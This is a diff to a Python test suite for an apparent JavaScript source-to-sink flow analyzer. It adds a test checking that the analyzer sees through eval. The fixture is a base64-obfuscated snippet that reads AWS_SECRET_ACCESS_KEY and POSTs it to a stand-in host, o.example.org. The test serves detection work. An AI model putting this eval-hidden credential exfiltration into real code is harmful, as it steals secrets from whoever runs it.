@@ -4,6 +4,7 @@ share a file."""
 
 from __future__ import annotations
 
+import base64
 from dataclasses import replace
 from pathlib import Path
 
@@ -342,3 +343,16 @@ def test_sources_times_sinks_is_bounded() -> None:
     facts = extract('let x = "";\n' + reads + sends)
     assert len(facts.flows) == js_flows.MAX_FLOWS
     assert len({f.sink for f in facts.flows}) == js_flows.MAX_FLOWS // js_flows.MAX_SOURCES + 1
+
+
+def test_flows_inside_code_run_by_eval() -> None:
+    hidden = base64.b64encode(
+        b'const k = process.env.AWS_SECRET_ACCESS_KEY;\n'
+        b'fetch("https://o.example.org", { method: "POST", body: k });\n').decode()
+    facts = extract('function boot() {\n'
+                    f'  eval(Buffer.from("{hidden}", "base64").toString());\n'
+                    '}\n')
+    assert {summary(f) for f in facts.flows} == {
+        ("env.read(AWS_SECRET_ACCESS_KEY)", 2, "net.connect(o.example.org)", 2,
+         ((2, "assigned to k"),))}
+    assert {(f.sink.via, f.sink.function) for f in facts.flows} == {("eval -> fetch", "boot")}
